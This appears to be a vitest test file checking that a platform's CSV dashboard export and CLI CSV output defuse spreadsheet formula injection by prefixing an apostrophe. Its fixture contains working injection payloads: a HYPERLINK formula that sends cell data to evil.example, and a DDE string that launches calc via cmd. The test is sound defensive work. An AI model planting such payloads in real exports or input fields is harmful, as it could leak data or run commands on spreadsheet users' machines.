import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { upsertSite } from '#store/sites.repository.ts';
import { render } from '../cli/output.ts';
import { type AbusePlatform, startAbusePlatform } from './api-abuse-platform.ts';

// Issue 11, finding 11: a site named `=HYPERLINK(…)` (or starting with +, -, @, tab or CR) came out unescaped
// in the anonymous /api/dashboard/export?format=csv. Now every CSV cell that a spreadsheet would run as a
// formula starts with an apostrophe (OWASP), in the export and in the CLI's --format csv alike.
const EVIL: Record<string, string> = {
  'QB-X1': '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  'QB-X2': "+1+cmd|' /C calc'!A0",
  'QB-X3': '-2+3',
  'QB-X4': '@SUM(1,2)',
  'QB-X5': '\t=1',
  'QB-X6': '\r=1',
};
let p: AbusePlatform;
beforeAll(async () => {
  p = await startAbusePlatform();
  for (const [code, name] of Object.entries(EVIL)) {
    await upsertSite(p.platform.db.db, { code, name, kind: 'air_station', inDistrictValue: false });
  }
});
afterAll(async () => {
  await p?.close();
});

/** The cells of a CSV (RFC 4180: quoted cells may hold commas, quotes, CR and LF). */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]];
  const re = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/gy;
  for (let m = re.exec(csv); m && m[0] !== ''; m = re.exec(csv)) {
    const raw = m[1] as string;
    (rows.at(-1) as string[]).push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (m[2] === '\r\n') rows.push([]);
  }
  return rows.filter((r) => r.length > 0);
}

describe('abuse: formula injection in CSV (finding 11)', () => {
  it('the dashboard export defuses every station name a spreadsheet would run', async () => {
    const codes = Object.keys(EVIL).join(',');
    const r = await fetch(
      `${p.url}/api/dashboard/export?from=2026-06-01&to=2026-06-02&format=csv&sites=${codes}`,
    );
    expect(r.status).toBe(200);
    const rows = cells((await r.text()).replace(/^\uFEFF/, ''));
    const names = new Map(rows.map((row) => [row[1], row[0]]));
    for (const [code, name] of Object.entries(EVIL)) expect(names.get(code)).toBe(`'${name}`);
  });

  it('the CLI --format csv does too, and keeps negative numbers numbers', () => {
    const out = render({ json: null, rows: [{ name: EVIL['QB-X1'], change: -3.5, text: '-3.5' }] }, 'csv');
    expect(cells(out.replace(/^\uFEFF/, ''))[1]).toEqual([`'${EVIL['QB-X1']}`, '-3.5', '-3.5']);
  });
});
